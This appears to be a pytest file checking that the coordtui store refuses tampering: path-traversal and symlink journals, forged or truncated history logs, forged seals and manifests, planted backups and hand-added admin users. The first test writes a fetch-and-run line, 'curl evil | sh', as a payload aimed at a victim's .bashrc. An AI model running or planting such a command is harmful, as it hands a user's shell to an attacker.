"""A history nobody can quietly rewrite: the journal, symbolic links, seals and ``coordtui verify``.

Each attack is made the way a colleague with write access to the store folder would make
it (by editing its files), and each test names what the store now does about it.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from coordtui.errors import StoreError
from coordtui.store import HistoryReader, Put, Store
from coordtui.store.files import JOURNAL, PENDING, WAL
from coordtui.store.seal import HEAD, entry_hash, key_path

from conftest import DROPINS, run




@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path / "s", create=True, user="alice")
    s.put_org({"id": "o1", "name": "Org", "model": "m"})
    for n in range(3):
        s.put("o1", "unit", "u1", {"name": f"v{n}"})
    s.put("o1", "act", "a1", {"title": "协作活动"}, part="2026-03")
    s.put("o1", "act", "a2", {"title": "第二次"}, part="2026-03")
    return s


def lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def write_lines(path: Path, entries: list) -> None:
    path.write_text("".join((e if isinstance(e, str) else json.dumps(e, ensure_ascii=False)) + "\n" for e in entries))


def verify(capsys, root) -> tuple[int, str]:
    code, out, err = run(capsys, "verify", "--db", root, "--lang", "en")
    return code, out + err


# the journal -----------------------------------------------------------------------

def test_a_planted_journal_appending_to_the_next_users_bashrc_is_refused_and_nothing_is_replayed(store, tmp_path, capsys):
    bashrc = tmp_path / "victim" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("# victim's shell\n")
    (store.root / JOURNAL).write_text(json.dumps({"files": [], "appends": [[str(bashrc), bashrc.stat().st_size, "curl evil | sh\n"]]}))
    code, out, err = run(capsys, "--lang", "en", "check", "--db", store.root)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert f"{store.root / JOURNAL}: the journal names {bashrc}" in err and "nothing was replayed" in err
    assert bashrc.read_text() == "# victim's shell\n"
    relative = {"files": [], "appends": [["../victim/.bashrc", 0, "curl evil | sh\n"]]}
    (store.root / JOURNAL).write_text(json.dumps(relative))
    with pytest.raises(StoreError, match="not one of the store's own files"):
        Store(store.root).put("o1", "unit", "u2", {"name": "x"})
    assert bashrc.read_text() == "# victim's shell\n"


def test_a_journal_renaming_onto_a_file_outside_the_store_is_refused(store, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("precious")
    tmp = store.root / "data" / "o1" / "structure.json.7.coordtui-tmp"
    tmp.write_text('{"unit": {}}')
    (store.root / JOURNAL).write_text(json.dumps({"files": [[str(tmp), str(outside)]], "appends": []}))
    with pytest.raises(StoreError, match="outside the store"):
        Store(store.root)
    assert outside.read_text() == "precious" and tmp.exists()
    # nor a rename whose temp file is not the one commit_files makes for its target
    (store.root / JOURNAL).write_text(json.dumps({"files": [["people.json", "data/o1/structure.json"]], "appends": []}))
    with pytest.raises(StoreError, match="not one of the store's own files"):
        Store(store.root)


def test_a_journal_through_a_symlinked_folder_or_onto_a_symlinked_log_is_refused(store, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (store.root / "data" / "evil").symlink_to(elsewhere)
    (elsewhere / "2026.json.3.coordtui-tmp").write_text("{}")
    (store.root / JOURNAL).write_text(json.dumps({"files": [["data/evil/2026.json.3.coordtui-tmp", "data/evil/2026.json"]]}))
    with pytest.raises(StoreError, match="is a symbolic link"):
        Store(store.root)
    assert not (elsewhere / "2026.json").exists()
    target = tmp_path / "profile"
    target.write_text("mine\n")
    log = store.root / "data" / "o1" / "2026-04.history.jsonl"
    log.symlink_to(target)
    (store.root / JOURNAL).write_text(json.dumps({"files": [], "appends": [["data/o1/2026-04.history.jsonl", 0, "x\n"]]}))
    with pytest.raises(StoreError, match="is a symbolic link"):
        Store(store.root)
    assert target.read_text() == "mine\n"


def test_a_symlinked_data_file_is_neither_read_nor_written_through(store, tmp_path):
    part = store.root / "data" / "o1" / "2026-03.json"
    foreign = tmp_path / "foreign.json"
    foreign.write_bytes(part.read_bytes())
    part.unlink()
    part.symlink_to(foreign)
    with pytest.raises(StoreError, match="2026-03.json: is a symbolic link"):
        Store(store.root).get("o1", "act", "a1")
    code_before = foreign.read_bytes()
    with pytest.raises(StoreError):
        Store(store.root).put("o1", "act", "a3", {"title": "x"}, part="2026-03")
    assert foreign.read_bytes() == code_before


@pytest.mark.usefixtures("whole_writes")
def test_the_journal_names_files_relative_to_the_store_and_recovery_still_finishes_a_commit(store, monkeypatch):
    import coordtui.store.files as files

    monkeypatch.setattr(files, "_append", lambda path, offset, payload: (_ for _ in ()).throw(OSError(5, "Input/output error")))
    with pytest.raises(StoreError, match="history could not be written yet"):
        store.put("o1", "unit", "u1", {"name": "late"})
    last = [line for line in (store.root / WAL).read_bytes().split(b"\n") if line.startswith(b"R{")][-1]
    body = json.loads(last[1:])
    assert [f for f, _ in body["files"]] == ["data/o1/structure.json"]
    # the manifest: a line appended to it, or (past its lines' bound) its changed entries
    assert sorted(a[0] for a in body["appends"] if a[0] != "manifest.json") == ["data/o1/structure.history.jsonl"]
    assert "manifest.json" in [a[0] for a in body["appends"]] or list(body["manifest"]["set"]) == ["data/o1/structure.json"]
    monkeypatch.undo()
    fresh = Store(store.root)
    fresh.put("o1", "unit", "u2", {"name": "next"})
    assert not (store.root / PENDING).exists() and fresh.verify_history() == []


# seals and verify --------------------------------------------------------------------

@pytest.mark.usefixtures("whole_writes")
def test_an_intact_store_verifies_clean_after_saves_moves_deletes_an_import_with_replace_and_a_restore(tmp_path, capsys):
    db = tmp_path / "db"
    assert run(capsys, "init", "--db", db, "--examples", "--plugin-dir", DROPINS)[0] == 0
    s = Store(db, user="alice")
    for n in range(40):
        s.put("m1", "team", f"t{n % 7}", {"name": f"第{n}组"})
    s.put("m1", "act", "x1", {"title": "a"}, part="2025")
    s.put("m1", "act", "x1", {"title": "a"}, part="2026")  # moved between partitions
    s.delete("m1", "team", "t3")
    exported = tmp_path / "m1.json"
    assert run(capsys, "export", "--org", "m1", "--db", db, "--out", exported, "--plugin-dir", DROPINS)[0] == 0
    doc = json.loads(exported.read_text())
    doc["items"] = doc["items"][1:]
    exported.write_text(json.dumps(doc, ensure_ascii=False))
    code, out, err = run(capsys, "import", exported, "--db", db, "--replace", "--plugin-dir", DROPINS, "--lang", "en")
    assert code == 0 and "deleted" in out and "deleted 0" not in out, err
    for n in range(3):
        s.put("m1", "team", "t0", {"name": f"again {n}"})
    assert run(capsys, "restore", "data/m1/structure.json", "--db", db)[0] == 2  # an intact file is not restored
    (db / "data" / "m1" / "structure.json").write_bytes(b'{"team": {')  # broken by a crash or a stray program
    assert run(capsys, "restore", "data/m1/structure.json", "--db", db)[0] == 0
    code, report = verify(capsys, db)
    assert code == 0 and "the history is intact" in report, report
    restored = [e for e in Store(db).history(record_id="t0") if e["op"] == "restore"]
    assert restored and restored[0]["after"]["name"] == "again 1"  # the backup's version, recorded as a change


def test_an_edited_line_is_named_by_file_and_entry(store, capsys):
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    entries = lines(log)
    entries[1]["after"]["name"] = "forged"
    write_lines(log, entries)
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/structure.history.jsonl: history entry 2 was altered after it was written" in report


def test_a_removed_or_reordered_line_is_named(store, capsys):
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    entries = lines(log)
    write_lines(log, [entries[0], entries[2]])
    code, report = verify(capsys, store.root)
    assert code == 1 and "history entry 3 is out of sequence (expected 2)" in report
    write_lines(log, [entries[0], entries[2], entries[1]])
    code, report = verify(capsys, store.root)
    assert code == 1 and "history entry 3 is out of sequence (expected 2)" in report and "history entry 2 is out of sequence" in report


def test_a_cut_off_tail_is_named(store, capsys):
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    write_lines(log, lines(log)[:1])
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/structure.history.jsonl: ends at entry 1 but the sealed head of data/o1/structure.json says 3" in report
    assert "entries 2–3 were cut off" in report
    # and the next save chains on from the sealed head, so the gap stays visible
    Store(store.root).put("o1", "unit", "u1", {"name": "v3"})
    assert [e["seq"] for e in lines(log)] == [1, 4]
    assert any("history entry 4 is out of sequence (expected 2)" in p for p in Store(store.root).verify_history())


def test_a_deleted_log_is_named(store, capsys):
    (store.root / "data" / "o1" / "2026-03.history.jsonl").unlink()
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/2026-03.history.jsonl: the history log is missing (deleted outside coordtui)" in report


@pytest.mark.usefixtures("whole_writes")
def test_a_data_file_edited_by_hand_is_named_with_its_record_and_no_save_seals_over_it(store, capsys):
    part = store.root / "data" / "o1" / "2026-03.json"
    original = part.read_bytes()
    data = json.loads(original)
    data["act"]["a1"]["title"] = "改过的"
    part.write_text(json.dumps(data, ensure_ascii=False))  # rewritten by a program
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/2026-03.json: was rewritten outside coordtui" in report
    assert "data/o1/2026-03.json: act a1 differs from the state its history ends in" in report
    part.write_bytes(original.replace("协作活动".encode(), "改过的活动".encode()))  # edited in place, head kept
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/2026-03.json: its records were changed outside coordtui" in report
    assert "data/o1/2026-03.json: act a1 differs from the state its history ends in" in report
    with pytest.raises(StoreError, match="2026-03.json: its records were changed outside coordtui.*nothing was saved"):
        Store(store.root).put("o1", "act", "a9", {"title": "new"}, part="2026-03")


def test_a_data_file_deleted_with_its_log_is_named(store, capsys):
    (store.root / "data" / "o1" / "2026-03.json").unlink()
    (store.root / "data" / "o1" / "2026-03.history.jsonl").unlink()
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/2026-03.json: the data file and its history log are missing (deleted outside coordtui)" in report


def test_a_whole_log_rewritten_with_fresh_hashes_does_not_match_its_seals(store, capsys):
    log = store.root / "data" / "o1" / "2026-03.history.jsonl"
    forged, prev = [], ""
    for e in lines(log):
        e["user"] = "somebody-else"
        e["prev"] = prev
        e.pop("seal")
        e["hash"] = entry_hash(e)
        e["seal"] = "0" * 64  # without the key no seal can be made
        prev = e["hash"]
        forged.append(e)
    write_lines(log, forged)
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/2026-03.history.jsonl: history entry 1 does not match its seal" in report
    assert "history entry 2 does not match its seal" in report


def test_a_malformed_line_is_a_break_never_a_crash(store, capsys):
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    write_lines(log, [*lines(log), '{"seq":"x","hash":"h"}'])
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/structure.history.jsonl: history entry at line 4 is malformed" in report
    entries, problems = HistoryReader(Store(store.root)).refresh()
    assert len(entries) == 6 and any("line 4 is malformed" in p for p in problems)
    code, out, err = run(capsys, "check", "--db", store.root, "--format", "json")
    assert code == 1 and "Traceback" not in err
    assert any(f["rule"] == "core.history_tampered" and "line 4 is malformed" in f["message_en"] for f in json.loads(out)["findings"])


def test_check_and_the_history_reader_report_what_verify_reports(store, capsys):
    reader = HistoryReader(store)
    assert reader.refresh()[1] == []
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    write_lines(log, lines(log)[:2])
    _, report = verify(capsys, store.root)
    problems = reader.refresh()[1]
    assert problems and all(p in report for p in problems)
    code, out, _ = run(capsys, "check", "--db", store.root, "--format", "json")
    tampered = [f["message_en"] for f in json.loads(out)["findings"] if f["rule"] == "core.history_tampered"]
    assert code == 1 and tampered == [f"history tampered: {p}" for p in problems]


def test_a_planted_data_file_and_a_forged_manifest_are_named(store, capsys):
    planted = store.root / "data" / "o1" / "2020.json"
    planted.write_text(json.dumps({"act": {"z": {"id": "z", "title": "planted"}}}))
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/2020.json: is not in the store's sealed manifest" in report
    manifest = store.root / "manifest.json"
    body = json.loads(manifest.read_bytes().split(b"\n")[0])  # (its first line: saves since appended a line each)
    body["files"]["data/o1/2020.json"] = 0
    manifest.write_text(json.dumps(body))
    code, report = verify(capsys, store.root)
    assert code == 1 and "manifest.json: does not match its seal" in report


@pytest.mark.usefixtures("whole_writes")
def test_a_data_file_and_its_log_put_back_to_an_earlier_sealed_version_are_named(store, capsys):
    # the store's own backups hold earlier, validly sealed versions of each data file
    part = store.root / "data" / "o1" / "structure.json"
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    older = store.root / "backups" / "data" / "o1" / "structure.json.1"
    assert json.loads(older.read_text())[HEAD]["seq"] == 2
    part.write_bytes(older.read_bytes())
    write_lines(log, lines(log)[:2])
    code, report = verify(capsys, store.root)
    assert code == 1 and "data/o1/structure.json: its sealed head says entry 2 but the store's sealed manifest says 3" in report
    with pytest.raises(StoreError, match="put back to another version outside coordtui; nothing was saved"):
        Store(store.root).put("o1", "unit", "u1", {"name": "over it"})


@pytest.mark.usefixtures("whole_writes")
def test_the_sealed_head_is_the_last_key_of_each_data_file(store):
    raw = (store.root / "data" / "o1" / "2026-03.json").read_bytes()
    head = json.loads(raw)[HEAD]
    assert raw.endswith(b'"_head":' + json.dumps(head, separators=(",", ":")).encode() + b"}")
    assert head["seq"] == 2 and head["unsealed"] == 0


# the key --------------------------------------------------------------------------------

def test_without_the_key_nothing_can_be_saved_and_verify_says_why(store, capsys):
    key = key_path(store._seal.store_id)
    assert oct(key.stat().st_mode & 0o777) == "0o600" and oct(key.parent.stat().st_mode & 0o777) == "0o700"
    assert not str(key).startswith(str(store.root))
    key.rename(key.with_name("away"))
    with pytest.raises(StoreError, match="cannot read this store's seal key.*nothing was saved"):
        Store(store.root).put("o1", "unit", "u9", {"name": "x"})
    assert Store(store.root).get("o1", "unit", "u9") is None
    code, _, err = run(capsys, "--lang", "en", "verify", "--db", store.root)
    assert code == 2 and "cannot read this store's seal key" in err and err.count("\n") == 1


# a store of the earlier version ------------------------------------------------------

def _make_unsealed_store(root: Path) -> None:
    """A schema-2 store as the version before sealing wrote it: hash-chained logs, no seals, heads, manifest or id."""
    (root / "data" / "o1").mkdir(parents=True)
    (root / "meta.json").write_text(json.dumps({"format": "coordtui-store", "schema": 2, "created": "2026-11-01T09:00:00+08:00"}))

    def chain(items):
        out, prev = [], ""
        for n, (at, op, kind, rid, before, after, org) in enumerate(items, start=1):
            e = {"seq": n, "at": at, "user": "alice", "op": op, "org": org, "kind": kind, "id": rid,
                 "before": before, "after": after, "prev": prev}
            e["hash"] = entry_hash(e)
            prev = e["hash"]
            out.append(e)
        return out

    org = {"id": "o1", "name": "Org", "model": "m", "_rev": 1, "_at": "2026-11-01T09:00:00+08:00", "_by": "alice"}
    (root / "orgs.json").write_text(json.dumps({"org": {"o1": org}}))
    write_lines(root / "orgs.history.jsonl", chain([("2026-11-01T09:00:00+08:00", "create", "org", "o1", None, org, "o1")]))
    u1 = {"name": "A", "id": "u1", "_rev": 1, "_at": "2026-12-02T03:00:00+08:00", "_by": "alice"}
    (root / "data" / "o1" / "structure.json").write_text(json.dumps({"unit": {"u1": u1}}))
    write_lines(root / "data" / "o1" / "structure.history.jsonl",
                chain([("2026-12-02T03:00:00+08:00", "create", "unit", "u1", None, u1, "o1")]))  # 2026-12-01T19:00Z


@pytest.mark.usefixtures("whole_writes")
def test_a_store_of_the_earlier_version_is_sealed_by_its_owner_and_never_reported_as_tampered(tmp_path, capsys):
    root = tmp_path / "old"
    _make_unsealed_store(root)
    s = Store(root, user="alice")
    meta = json.loads((root / "meta.json").read_text())
    assert meta["schema"] == 6 and meta["store_id"] and key_path(meta["store_id"]).exists()
    assert oct(root.stat().st_mode & 0o777) == "0o700" and oct((root / "orgs.json").stat().st_mode & 0o777) == "0o600"
    assert s.verify_history() == []
    s.put("o1", "unit", "u1", {"name": "B"})  # 2026-12-01T19:42:00Z or later: after the +08:00 entry's instant
    assert [e["seq"] for e in s.history(record_id="u1")] == [2, 1]  # by instant: "2026-12-02T03…" sorts first as text
    entries, _ = HistoryReader(s).refresh()
    assert [e["op"] for e in entries if e["id"] == "u1"] == ["update", "create"]
    code, report = verify(capsys, root)
    assert code == 0, report
    assert "note: data/o1/structure.history.jsonl: entries 1–1 predate sealed history: they are hash-chained" in report
    # the unsealed entries are still pinned: editing one is a break
    log = root / "data" / "o1" / "structure.history.jsonl"
    entries = lines(log)
    entries[0]["after"]["name"] = "forged"
    entries[0]["hash"] = entry_hash(entries[0])
    write_lines(log, entries)
    code, report = verify(capsys, root)
    assert code == 1 and "history entry 2 does not follow the previous entry" in report


def test_only_the_owner_upgrades_an_earlier_store(tmp_path):
    if os.geteuid() == 0:
        root = tmp_path / "old"
        _make_unsealed_store(root)
        os.chown(root, 12345, -1)
        with pytest.raises(StoreError, match="must be upgraded by its owner: ask uid 12345"):
            Store(root)
        assert json.loads((root / "meta.json").read_text())["schema"] == 2
    else:
        pytest.skip("needs root to give the store folder another owner")


@pytest.mark.usefixtures("whole_writes")
def test_restore_of_a_store_file_keeps_the_history_explaining_every_record(store, capsys):
    part = store.root / "data" / "o1" / "structure.json"
    part.write_bytes(b'{"unit": {"u1": {"na')
    assert run(capsys, "restore", "data/o1/structure.json", "--db", store.root)[0] == 0
    code, report = verify(capsys, store.root)
    assert code == 0, report
    ops = [e["op"] for e in Store(store.root).history(record_id="u1")]
    assert ops[0] == "restore"


def test_a_copy_of_the_store_elsewhere_verifies_and_saves_with_the_same_key(store, tmp_path, capsys):
    copy = tmp_path / "copy"
    shutil.copytree(store.root, copy, symlinks=True)
    Store(copy).put("o1", "unit", "u1", {"name": "moved"})
    assert verify(capsys, copy)[0] == 0


def test_apply_many_ops_in_one_transaction_keeps_one_head_per_file(store, capsys):
    store.apply([Put("o1", "act", f"b{n}", {"title": str(n)}, "2026-04") for n in range(20)])
    head = json.loads((store.root / "data" / "o1" / "2026-04.json").read_text())[HEAD]
    assert head["seq"] == 20 and verify(capsys, store.root)[0] == 0


# what a hostile member of a group store tried ----------------------------------------------

def test_a_symlinked_organization_folder_is_neither_read_nor_written_through(store, tmp_path):
    other = Store(tmp_path / "private", create=True, user="alice")
    other.put_org({"id": "o1", "name": "Private", "model": "m"})
    other.put("o1", "unit", "secret", {"name": "PRIVATE-SECRET"})
    folder = store.root / "data" / "o1"
    folder.rename(store.root / "data" / "o1.old")
    folder.symlink_to(other.root / "data" / "o1")
    fresh = Store(store.root)
    for action in (lambda: fresh.query("o1", "unit"), lambda: fresh.get("o1", "unit", "secret"),
                   lambda: fresh.put("o1", "unit", "u9", {"name": "x"})):
        with pytest.raises(StoreError, match="is a symbolic link"):
            action()
    assert [d["name"] for d in Store(other.root).query("o1", "unit")] == ["PRIVATE-SECRET"]


def test_a_lowered_schema_in_meta_json_is_refused_not_resealed(store, capsys):
    log = store.root / "data" / "o1" / "structure.history.jsonl"
    entries = lines(log)
    forged = dict(entries[-1], seq=entries[-1]["seq"] + 1, prev=entries[-1]["hash"], user="someoneelse")
    forged.pop("seal", None)
    forged["hash"] = entry_hash(forged)
    write_lines(log, [*entries, forged])
    meta = json.loads((store.root / "meta.json").read_text())
    (store.root / "meta.json").write_text(json.dumps(meta | {"schema": 2}))
    with pytest.raises(StoreError, match="already sealed"):
        Store(store.root)
    code, _, err = run(capsys, "--lang", "en", "check", "--db", store.root)
    assert code == 2 and "already sealed" in err and err.count("\n") == 1
    assert "seal" not in lines(log)[-1]  # nothing was resealed over the forged entry


@pytest.mark.usefixtures("whole_writes")
def test_a_planted_backup_is_not_restored(store, capsys):
    store.put("o1", "unit", "u1", {"name": "A"})
    store.put("o1", "unit", "u1", {"name": "B"})
    part = store.root / "data" / "o1" / "structure.json"
    backup = store.root / "backups" / "data" / "o1" / "structure.json.1"
    planted = json.loads(backup.read_text())
    planted["unit"]["u1"]["name"] = "PLANTED"
    backup.unlink()
    backup.write_text(json.dumps(planted, ensure_ascii=False))
    part.write_bytes(b'{"unit": {')
    code, out, err = run(capsys, "restore", "data/o1/structure.json", "--db", store.root, "--lang", "en")
    assert code == 0 and "structure.json.2" in out, err  # the planted newest is passed over for one coordtui wrote
    assert Store(store.root).get("o1", "unit", "u1")["name"] != "PLANTED"
    for n in (2, 3):  # with every backup planted, nothing is restored
        (backup.parent / f"structure.json.{n}").unlink(missing_ok=True)
    part.write_bytes(b'{"unit": {')
    code, _, err = run(capsys, "restore", "data/o1/structure.json", "--db", store.root, "--lang", "en")
    assert code == 2 and "no backup coordtui wrote" in err and err.count("\n") == 1
    assert part.read_bytes() == b'{"unit": {'


def test_an_intact_file_is_not_restored(store, capsys):
    store.put("o1", "unit", "u1", {"name": "A"})
    store.put("o1", "unit", "u1", {"name": "B"})
    for name in ("data/o1/structure.json", "meta.json"):
        code, _, err = run(capsys, "--lang", "en", "restore", name, "--db", store.root)
        assert code == 2 and "is intact" in err, name
    assert Store(store.root).get("o1", "unit", "u1")["name"] == "B"


def test_a_person_added_to_people_json_by_hand_is_never_acted_on(store, capsys):
    store.put_person({"name": "alice", "grants": [{"org": None, "role": "admin", "cases": True}]}, rev=0)
    people = store.root / "people.json"
    data = json.loads(people.read_text())
    data["person"]["evil"] = {"name": "evil", "grants": [{"org": None, "role": "admin", "cases": True}], "keys": []}
    people.write_text(json.dumps(data))
    with pytest.raises(StoreError, match="outside coordtui"):
        Store(store.root).get_person("evil")
    code, _, err = run(capsys, "--lang", "en", "users", "list", "--db", store.root)
    assert code == 2 and "outside coordtui" in err


# the hashes and seals stay what earlier versions wrote ----------------------------------

def _hash_as_first_written(entry):
    """entry_hash as the first sealed stores computed it: every store's history was hashed so."""
    import hashlib

    import orjson

    body = {k: v for k, v in entry.items() if k not in ("hash", "seal")}
    return hashlib.sha256(orjson.dumps(body, option=orjson.OPT_SORT_KEYS | orjson.OPT_NON_STR_KEYS)).hexdigest()


def _seal_as_first_written(key, *parts):
    import hmac

    return hmac.digest(key, "\x1f".join(str(p) for p in parts).encode("utf-8"), "sha256").hex()


def _random_entry(rng):
    def text():
        return "".join(rng.choice("ab协作 \"\\\x1f_é𝄞0") for _ in range(rng.randrange(0, 12)))

    def value(depth=0):
        pick = rng.randrange(8 if depth < 2 else 5)
        if pick == 0:
            return None
        if pick == 1:
            return rng.choice([True, False])
        if pick == 2:
            return rng.randrange(-10**12, 10**12)
        if pick == 3:
            return rng.random() * 1000
        if pick == 4:
            return text()
        if pick == 5:
            return [value(depth + 1) for _ in range(rng.randrange(4))]
        return {text(): value(depth + 1) for _ in range(rng.randrange(5))}

    entry = {"seq": rng.randrange(1, 10**6), "at": "2026-03-06T19:07:08Z", "user": text(), "op": "update", "org": "o1",
             "kind": text(), "id": text(), "before": value(), "after": value(), "prev": text()}
    for _ in range(rng.randrange(3)):
        entry[text()] = value()
    items = list(entry.items())
    rng.shuffle(items)  # (hashed with sorted keys: the order an entry was built in never counts)
    entry = dict(items)
    if rng.random() < 0.5:  # an entry read back from a log carries its hash and seal (in either order, or one of them)
        for name in rng.sample(["hash", "seal"], rng.randrange(1, 3)):
            entry[name] = rng.choice([text(), "0" * 64, 7, None])
    return entry


def test_entry_hashes_and_seals_are_byte_for_byte_those_earlier_versions_wrote():
    import random

    from coordtui.store.seal import _EntrySeal, _mac

    rng = random.Random(20261202)
    key = b"k" * 64
    for _ in range(3000):
        entry = _random_entry(rng)
        before = dict(entry)
        assert entry_hash(entry) == _hash_as_first_written(entry), entry
        assert entry == before and list(entry) == list(before)  # the entry itself is left as it was
        rel_log = rng.choice(["data/o1/2026-03.history.jsonl", "people.history.jsonl", "data/é/x\x1fy.history.jsonl"])
        for hash_ in (entry_hash(entry), entry.get("hash", ""), 12):
            want = _seal_as_first_written(key, "entry", "0123abcd", rel_log, hash_)
            assert _EntrySeal(key, "0123abcd", rel_log)(hash_) == want
            assert _mac(key, "entry", "0123abcd", rel_log, hash_) == want
    # And one entry's values as written into stores since sealing began (a fixed point: a change of
    # the hashing would leave every existing store unverifiable).
    entry = {"seq": 7, "at": "2026-03-06T19:07:08Z", "user": "alice", "op": "update", "org": "o1", "kind": "act", "id": "a1",
             "before": {"id": "a1", "title": "协作活动", "_rev": 1},
             "after": {"id": "a1", "title": "第二次", "units": ["u1", "u2"], "n": 3, "ok": True, "_rev": 2}, "prev": "ab" * 32}
    assert entry_hash(entry) == entry_hash(entry | {"hash": "x", "seal": "y"}) == "e77c645e71123920f4e6790c17c9d57aaa5343535f4253792364814b812aa2e4"
    assert (_EntrySeal(key, "0123abcd", "data/o1/2026-03.history.jsonl")(entry_hash(entry))
            == "d93481c55355066b5aa81c15548600ed682a308f8184828cc9f9993b51dc52da")


def test_a_log_sealed_by_the_store_verifies_and_each_entry_carries_the_seal_of_the_first_formula(store):
    from coordtui.store.seal import load_key

    key = load_key(store._seal.store_id)
    log = store.root / "data" / "o1" / "2026-03.history.jsonl"
    entries = lines(log)
    assert len(entries) == 2
    for e in entries:
        assert e["hash"] == _hash_as_first_written(e)
        assert e["seal"] == _seal_as_first_written(key, "entry", store._seal.store_id, "data/o1/2026-03.history.jsonl", e["hash"])
    assert not store._seal.verify_file(store.root / "data" / "o1" / "2026-03.json", key).problems
